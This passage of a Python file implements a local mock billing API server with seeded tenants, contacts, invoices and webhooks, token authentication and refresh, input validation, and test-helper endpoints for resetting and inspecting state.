        {"id": CUST_A, "name": "Acme Nordic AB", "parentCustomerId": None,
         "x_segment": "enterprise"},
        {"id": CUST_B, "name": "Desert Trading LLC", "parentCustomerId": CUST_A,
         "x_segment": "mid"},
        {"id": "001Ns00000Cu5tC3AE", "name": "Orphan Subsidiary", "parentCustomerId": CUST_B},
    ],
    "south": [
        {"id": CUST_S, "name": "Kiwi Holdings", "parentCustomerId": None},
    ],
}


def initial_invoices():
    return {
        "north": {
            "3f6c2a1e-8b7d-4c59-9e21-0a4b5c6d7e01": "Canceled",
            "3f6c2a1e-8b7d-4c59-9e21-0a4b5c6d7e02": "Canceled",
            "3f6c2a1e-8b7d-4c59-9e21-0a4b5c6d7e03": "Draft",
            "3f6c2a1e-8b7d-4c59-9e21-0a4b5c6d7e04": "Posted",
            "3f6c2a1e-8b7d-4c59-9e21-0a4b5c6d7e05": "Draft",
            "3f6c2a1e-8b7d-4c59-9e21-0a4b5c6d7e06": "Paid",
        },
        "south": {
            "a1BSw00000Iv1CnAAE": "Canceled",
            "a1BSw00000Iv2PoAAE": "Posted",
        },
    }


WEBHOOKS = {
    "north": [
        {
            "id": "we_01HZX3K7Q4N",
            "endpointUrl": "https://hooks.north.example/billing?src=alt&x=<1>",
            "events": ["invoice.deleted", "contact.updated"],
            "status": "Active",
            "signingSecretHint": "••••a9f2",
            "createdAt": "2024-05-01T10:00:00Z",
            "retry": {"maxAttempts": 5, "backoff": "exponential",
                      "intervalsSeconds": [10, 60, 600]},
        },
        {
            "id": "we_01HZX3K7Q4P",
            # endpointUrl missing on purpose
            "events": [],
            "status": "Disabled",
            "description": None,
            "createdAt": "2024-05-02T11:00:00.5+02:00",
            "lastDeliveryAt": None,
        },
        {
            "id": "we_01HZX3K7Q4R",
            "endpointUrl": "https://例え.テスト/フック",
            "events": ["*"],
            "status": "Failing",
            "signingSecretHint": None,
            "createdAt": "2024-06-30T23:59:59Z",
            "retry": {"maxAttempts": 0, "backoff": None},
            "metadata": {"owner": "ops", "labels": {"env": "prod", "team": "💳"}},
            "consecutiveFailures": 42,
        },
    ],
    "south": [],
}

# ---------------------------------------------------------------------------
# Mutable state
# ---------------------------------------------------------------------------


class State:
    def __init__(self, token_lifetime):
        self.lock = threading.Lock()
        self.token_lifetime = token_lifetime
        self.tokens = {}      # access token -> {"user", "expires", "family"}
        self.families = {}    # family id -> current refresh token
        self.stats = {"tokensIssued": 0, "tokensRefreshed": 0, "requests": 0}
        self.last_patch = {}  # contact id -> raw body text
        self.last_patch_id = None
        self.reset_data()

    def reset_data(self):
        self.contacts = initial_contacts()
        self.invoices = initial_invoices()

    def issue(self, user, family=None):
        token = secrets.token_urlsafe(32)
        refresh = secrets.token_urlsafe(48)
        if family is None:
            family = secrets.token_hex(8)
        self.tokens[token] = {"user": user, "expires": time.time() + self.token_lifetime,
                              "family": family}
        self.families[family] = refresh
        return {"access_token": token, "refresh_token": refresh, "token_type": "bearer",
                "expires_in": int(self.token_lifetime)}


STATE = None

# ---------------------------------------------------------------------------
# Helpers
# ---------------------------------------------------------------------------


def grapheme_len(text):
    """Approximate count of user-perceived characters.

    Combining marks, variation selectors, emoji skin-tone modifiers and tag characters
    attach to the previous character; a zero-width joiner glues the next character to
    the previous one; two regional indicators form one flag; CR LF counts once.
    """
    count = 0
    join_next = False
    pending_ri = False
    prev = ""
    for ch in text:
        cp = ord(ch)
        cat = unicodedata.category(ch)
        extend = (cat in ("Mn", "Me", "Mc") or 0xFE00 <= cp <= 0xFE0F
                  or 0xE0100 <= cp <= 0xE01EF or 0x1F3FB <= cp <= 0x1F3FF
                  or 0xE0020 <= cp <= 0xE007F or cp == 0x200D)
        if count and (extend or join_next or (prev == "\r" and ch == "\n")):
            join_next = cp == 0x200D
            prev = ch
            continue
        join_next = False
        if 0x1F1E6 <= cp <= 0x1F1FF:
            if pending_ri:
                pending_ri = False
                prev = ch
                continue
            pending_ri = True
        else:
            pending_ri = False
        count += 1
        prev = ch
    return count


EMAIL_RE = re.compile(r"^[^@\s]+@[^@\s]+\.[^@\s]+$")
DATE_RE = re.compile(r"^\d{4}-\d{2}-\d{2}$")
FILTER_RE = re.compile(
    r'^\{\s*"?status"?\s*:\s*\{\s*"?_eq"?\s*:\s*"?([A-Za-z_]+)"?\s*\}\s*\}$')
ID_RE = re.compile(r"^(?:[A-Za-z0-9]{15}|[A-Za-z0-9]{18})$")


def now_iso():
    return datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def validate_contact_patch(body):
    """Return (error message or None, warnings)."""
    if not isinstance(body, dict):
        return "request body must be a JSON object", []
    for key in body:
        if key not in WRITABLE:
            return "field '%s' is not writable" % key, []
    for key, value in body.items():
        if value is not None and not isinstance(value, str):
            return "field '%s' must be a string or null" % key, []
        if isinstance(value, str) and key in LIMITS:
            n = grapheme_len(value)
            if n > LIMITS[key]:
                return ("field '%s' is too long: %d characters, at most %d"
                        % (key, n, LIMITS[key])), []
    bday = body.get("birthday")
    if isinstance(bday, str) and bday != "":
        ok = bool(DATE_RE.match(bday))
        if ok:
            try:
                datetime.date.fromisoformat(bday)
            except ValueError:
                ok = False
        if not ok:
            return "field 'birthday' must be a date YYYY-MM-DD", []
    email = body.get("email")
    if isinstance(email, str) and email != "" and not EMAIL_RE.match(email):
        return "field 'email' is not a valid e-mail address", []
    warnings = []
    if "name" in body and (body["name"] is None or body["name"].strip() == ""):
        warnings.append({"code": "NAME_EMPTY",
                         "message": "The contact has no name; it is normally required."})
    if not body:
        warnings.append({"code": "NO_CHANGES", "message": "No fields were supplied."})
    return None, warnings


# ---------------------------------------------------------------------------
# HTTP handler
# ---------------------------------------------------------------------------


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "AltBilling/0.1"

    def version_string(self):
        return self.server_version

    # -- plumbing ----------------------------------------------------------

    def log_message(self, fmt, *args):  # path only; no headers, no bodies
        sys.stderr.write("alt_service: %s\n" % (fmt % args))

    def log_request(self, code="-", size="-"):
        path = urllib.parse.urlsplit(self.path).path
        self.log_message("%s %s %s", self.command, path, code)

    def read_body(self):
        te = self.headers.get("Transfer-Encoding", "")
        if "chunked" in te.lower():
            chunks = []
            while True:
                line = self.rfile.readline(65537)
                size = int(line.split(b";")[0].strip() or b"0", 16)
                if size == 0:
                    while self.rfile.readline(65537) not in (b"\r\n", b"\n", b""):
                        pass
                    break
                chunks.append(self.rfile.read(size))
                self.rfile.readline(65537)
            return b"".join(chunks)
        length = int(self.headers.get("Content-Length") or 0)
        return self.rfile.read(length) if length > 0 else b""

    def send_json(self, status, obj, extra_headers=None):
        data = to_json(obj).encode("utf-8")
        self.send_response(status)
        self.send_header("Content-Type", "application/json; charset=utf-8")
        self.send_header("Content-Length", str(len(data)))
        self.send_header("Cache-Control", "no-store")
        for k, v in (extra_headers or {}).items():
            self.send_header(k, v)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(data)

    def send_empty(self, status):
        self.send_response(status)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def parse_json_body(self):
        """Return (ok, value). Empty body gives (True, None)."""
        if not self.body.strip():
            return True, None
        try:
            return True, json.loads(self.body.decode("utf-8"), parse_float=Decimal)
        except (ValueError, UnicodeDecodeError):
            return False, None

    # -- authentication ----------------------------------------------------

    def tenant_for_request(self):
        api_key = self.headers.get("svc-api-key")
        if api_key is not None:
            return API_KEYS.get(api_key.strip())
        auth = self.headers.get("Authorization", "")
        access = (self.headers.get("apiAccessKey") or "").strip()
        tenant = ACCESS_KEYS.get(access)
        if not auth or tenant is None:
            return None
        scheme, _, cred = auth.strip().partition(" ")
        cred = cred.strip()
        user = None
        if scheme.lower() == "bearer":
            with STATE.lock:
                rec = STATE.tokens.get(cred)
                if rec and rec["expires"] > time.time():
                    user = rec["user"]
        elif scheme.lower() == "basic":
            try:
                raw = base64.b64decode(cred, validate=True).decode("utf-8")
            except (ValueError, UnicodeDecodeError):
                return None
            name, sep, password = raw.partition(":")
            u = USERS.get(name.lower())
            if sep and u and secrets.compare_digest(u["password"], password):
                user = name.lower()
        if user is None or tenant not in USERS[user]["tenants"]:
            return None
        return tenant

    # -- dispatch ----------------------------------------------------------

    def handle_any(self):
        try:
            self.body = self.read_body()
        except (ValueError, OSError):
            self.close_connection = True
            self.send_empty(400)
            return
        split = urllib.parse.urlsplit(self.path)
        path = split.path
        query = urllib.parse.parse_qs(split.query, keep_blank_values=True)
        method = self.command

        if path.startswith("/_alt/"):
            return self.route_alt(method, path, query)

        with STATE.lock:
            STATE.stats["requests"] += 1

        if path == "/auth/token":
            return self.auth_token() if method == "POST" else self.send_empty(405)
        if path == "/auth/refreshToken":
            return self.auth_refresh() if method == "POST" else self.send_empty(405)

        routes = [
            (r"/catalog/products", {"GET": self.product_list}),
            (r"/catalog/products/([^/]+)", {"GET": self.product_read}),
            (r"/tenant", {"GET": self.tenant_details}),
            (r"/webhook-endpoints", {"GET": self.webhooks}),
            (r"/contacts", {"GET": self.contact_list}),
            (r"/contacts/([^/]+)", {"GET": self.contact_read, "PATCH": self.contact_patch}),
            (r"/billing/invoices", {"DELETE": self.invoices_delete}),
            (r"/api/async/graphql", {"GET": self.graphql}),
        ]
        for pattern, methods in routes:
            m = re.fullmatch(pattern, path)
            if not m:
                continue
            tenant = self.tenant_for_request()
            if tenant is None:
                return self.send_empty(401)
            fn = methods.get(method)
            if fn is None:
                return self.send_empty(405)
            args = [urllib.parse.unquote(g) for g in m.groups()]
            return fn(tenant, query, *args)
        return self.send_empty(404)

    do_GET = do_POST = do_PATCH = do_DELETE = do_PUT = handle_any

    # -- test helpers --------------------------------------------------------

    def route_alt(self, method, path, query):
        if path == "/_alt/stats" and method == "GET":
            with STATE.lock:
                return self.send_json(200, dict(STATE.stats))
        if path == "/_alt/last-patch" and method == "GET":
            with STATE.lock:
                cid = query.get("contactId", [STATE.last_patch_id])[0]
                body = STATE.last_patch.get(cid) if cid is not None else None
                return self.send_json(200, {"contactId": cid if body is not None else None,
                                            "body": body})
        if path == "/_alt/reset" and method == "POST":
            with STATE.lock:
                STATE.reset_data()
            return self.send_json(200, {"result": "reset"})
        return self.send_empty(404)

    # -- auth endpoints --------------------------------------------------------

    def auth_token(self):
        ok, body = self.parse_json_body()
        if not ok or not isinstance(body, dict):
            return self.send_empty(400)
        name, password = body.get("userName"), body.get("password")
        if not isinstance(name, str) or not isinstance(password, str):
            return self.send_empty(400)
        user = USERS.get(name.lower())
        if user is None or not secrets.compare_digest(user["password"], password):
            return self.send_empty(401)
        show = body.get("showTenants")
        with STATE.lock:
            grant = STATE.issue(name.lower())
            STATE.stats["tokensIssued"] += 1
        if show is True or (isinstance(show, str) and show.strip().lower() == "true"):
            grant["tenant_list"] = [
                {"tenant_id": tid, "tenant_name": TENANTS[tid]["name"],
                 "access_key": TENANTS[tid]["access_key"]}
                for tid in user["tenants"]]
        return self.send_json(200, grant)

    def auth_refresh(self):
        ok, body = self.parse_json_body()
        if not ok or (body is not None and not isinstance(body, dict)):
            return self.send_empty(400)
        supplied_refresh = (body or {}).get("refreshToken")
        if supplied_refresh is not None and not isinstance(supplied_refresh, str):
            return self.send_empty(400)
        tenant = ACCESS_KEYS.get((self.headers.get("apiAccessKey") or "").strip())
        scheme, _, cred = (self.headers.get("Authorization") or "").strip().partition(" ")
        with STATE.lock:
            family = user = None
            if scheme.lower() == "bearer":
                rec = STATE.tokens.get(cred.strip())   # an expired token may be refreshed
                if rec:
                    family, user = rec["family"], rec["user"]
            if supplied_refresh is not None:
                fam = next((f for f, r in STATE.families.items()
                            if secrets.compare_digest(r, supplied_refresh)), None)
                if fam is None or (family is not None and fam != family):
                    return self.send_empty(401)
                if family is None:
                    family = fam
                    user = next(r["user"] for r in STATE.tokens.values() if r["family"] == fam)
            if family is None or tenant is None or tenant not in USERS[user]["tenants"]:
                return self.send_empty(401)
            grant = STATE.issue(user, family)   # rotates the refresh token
            STATE.stats["tokensRefreshed"] += 1
        return self.send_json(200, grant)

    # -- catalog ---------------------------------------------------------------

    def product_list(self, tenant, query):
        def intarg(name, default):
            try:
                v = int(query.get(name, [""])[0])
                return v if v > 0 else default
            except ValueError:
                return default
        page = intarg("page", 1)
        limit = min(intarg("limit", PAGE_LIMIT_MAX), PAGE_LIMIT_MAX)
        listed = PRODUCTS[tenant]["listed"]
        start = (page - 1) * limit
        return self.send_json(200, {"data": listed[start:start + limit], "page": page,
                                    "limit": limit, "total": len(listed)})

    def product_read(self, tenant, query, pid):
        if not ID_RE.match(pid):
            return self.send_json(400, {"error": "BAD_ID",
                                        "message": "Product id must be 15 or 18 letters or digits."})
        store = PRODUCTS[tenant]
        prod = store["by_id"].get(pid)
        if prod is None and len(pid) == 15:
            prod = next((p for i, p in store["by_id"].items() if i[:15] == pid), None)
        if prod is None:
            return self.send_json(404, {"error": "NOT_FOUND",
                                        "message": "No published product with this id."})
        return self.send_json(200, prod)

    # -- tenant, webhooks ------------------------------------------------------

    def tenant_details(self, tenant, query):
        return self.send_json(200, {"data": TENANTS[tenant]["details"]})

    def webhooks(self, tenant, query):
        return self.send_json(200, {"data": WEBHOOKS[tenant], "nextCursor": None})

    # -- contacts ----------------------------------------------------------------

    def contact_list(self, tenant, query):
        with STATE.lock:
            contacts = list(STATE.contacts[tenant].values())
            if "customerId" in query:
                cid = query["customerId"][0]
                contacts = [c for c in contacts if c.get("customerId") == cid]
            data = copy.deepcopy(contacts)
        return self.send_json(200, {"data": data})

    def contact_read(self, tenant, query, cid):
        with STATE.lock:
            c = copy.deepcopy(STATE.contacts[tenant].get(cid))
        if c is None:
            return self.send_empty(404)
        return self.send_json(200, {"data": c})

    def contact_patch(self, tenant, query, cid):
        raw = self.body.decode("utf-8", errors="replace")
        with STATE.lock:
            STATE.last_patch[cid] = raw
            STATE.last_patch_id = cid
            exists = cid in STATE.contacts[tenant]
        if not exists:
            return self.send_empty(404)
        if not self.body.strip():
            return self.send_json(400, {"message": "request body is required"})
        try:
            body = json.loads(raw)
        except ValueError:
            return self.send_json(400, {"message": "request body is not valid JSON"})
        error, warnings = validate_contact_patch(body)
        if error:
            return self.send_json(400, {"message": error})
        with STATE.lock:
            contact = STATE.contacts[tenant].get(cid)
            if contact is None:
                return self.send_empty(404)
            if body:
                contact.update(body)
                contact["lastModifiedDate"] = now_iso()
                contact["lastModifiedById"] = "005Ns00000ApiUsAAA"
            data = copy.deepcopy(contact)
        return self.send_json(200, {"status": "OK", "data": [data], "warnings": warnings})

    # -- invoices ------------------------------------------------------------------

    def invoices_delete(self, tenant, query):
        def bad(code, message):
            return self.send_json(400, {"title": "Bad Request", "message": message,
                                        "errorCode": code})
        ok, body = self.parse_json_body()
        if not ok or not isinstance(body, dict):
            return bad("INVALID_BODY", "The request body must be a JSON object.")
        for flag in ("notifyCrm", "notifyDebitMemoChangedToCrm", "notifyPaymentChangedToCrm"):
            if flag in body and body[flag] is not None and not isinstance(body[flag], bool):
                return bad("INVALID_FIELD", "%s must be a boolean." % flag)
        ids = body.get("invoiceIds")
        flt = body.get("graphqlFilter")
        has_ids = ids is not None
        has_filter = flt is not None
        if has_ids and has_filter:
            return bad("MUTUALLY_EXCLUSIVE",
                       "invoiceIds and graphqlFilter cannot be used together.")
        if not has_ids and not has_filter:
            return bad("SELECTOR_REQUIRED", "Give either invoiceIds or graphqlFilter.")
        with STATE.lock:
            invoices = STATE.invoices[tenant]
            if has_ids:
                if (not isinstance(ids, list) or not ids
                        or not all(isinstance(i, str) and i for i in ids)):
                    return bad("INVALID_FIELD", "invoiceIds must be a non-empty list of strings.")
                wanted = list(dict.fromkeys(ids))
                if any(i not in invoices for i in wanted):
                    return self.send_empty(404)
                blocked = [i for i in wanted if invoices[i] not in ("Canceled", "Draft")]
                if blocked:
                    return bad("INVOICE_NOT_DELETABLE",
                               "Only Canceled or Draft invoices can be deleted (%d are not)."
                               % len(blocked))
            else:
                if not isinstance(flt, str):
                    return bad("INVALID_FILTER", "graphqlFilter must be a string.")
                m = FILTER_RE.match(flt.strip())
                if not m:
                    return bad("INVALID_FILTER",
                               "graphqlFilter must look like {status: {_eq: Canceled}}.")
                status = {"canceled": "Canceled", "cancelled": "Canceled",
                          "draft": "Draft"}.get(m.group(1).lower())
                if status is None:
                    return bad("INVOICE_NOT_DELETABLE",
                               "Only Canceled or Draft invoices can be deleted.")
                wanted = [i for i, s in invoices.items() if s == status]
            for i in wanted:
                del invoices[i]
        return self.send_json(200, {"result": "deleted", "count": len(wanted)})

    # -- query endpoint ------------------------------------------------------------

    def graphql(self, tenant, query_params):
        ok, body = self.parse_json_body()
        if not ok or not isinstance(body, dict):
            return self.send_json(400, {"errors": [{"message": "Body must be a JSON object."}]})
        q = body.get("query")
        variables = body.get("variables")
        if not isinstance(q, str) or not q.strip():
            return self.send_json(400, {"errors": [{"message": "Field 'query' is required."}]})
        if variables is not None and not isinstance(variables, dict):
            return self.send_json(400, {"errors": [{"message": "'variables' must be an object."}]})
        variables = variables or {}
        if not re.search(r"\bCustomer\b", q):
            m = re.search(r"\{\s*([A-Za-z_]\w*)", q.replace("query", " ", 1))
            entity = m.group(1) if m else "?"
            return self.send_json(200, {"errors": [{
                "message": "Unknown entity '%s'. Only Customer is available here." % entity}]})
        rows = CUSTOMERS[tenant]
        for m in re.finditer(r'(?<![\w$])(id|name|parentCustomerId)\s*:\s*\{\s*_eq\s*:\s*'
                             r'(?:"((?:[^"\\]|\\.)*)"|\$(\w+)|(null)|([\w-]+))', q):
            field = m.group(1)
            if m.group(2) is not None:
                value = m.group(2)
            elif m.group(3) is not None:
                value = variables.get(m.group(3))
            elif m.group(4) is not None:
                value = None
            else:
                value = m.group(5)
            rows = [r for r in rows if r.get(field) == value]
        return self.send_json(200, {"data": {"Customer": copy.deepcopy(rows)}})


# ---------------------------------------------------------------------------
# Main
# ---------------------------------------------------------------------------


def main():
    global STATE
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--port", type=int, default=0)
    ap.add_argument("--token-lifetime", type=float, default=120,
                    help="access token lifetime in seconds (default 120)")
    args = ap.parse_args()
    assert grapheme_len(FIRST_40) == 40 and len(FIRST_40) == 46
    STATE = State(args.token_lifetime)

    server = ThreadingHTTPServer(("127.0.0.1", args.port), Handler)
    server.daemon_threads = True

    def stop(signum, frame):
        raise KeyboardInterrupt

    signal.signal(signal.SIGTERM, stop)
    print("listening on http://127.0.0.1:%d" % server.server_address[1], flush=True)
    try:
        server.serve_forever()
    except KeyboardInterrupt:
        pass
    finally:
        server.server_close()


if __name__ == "__main__":
    main()
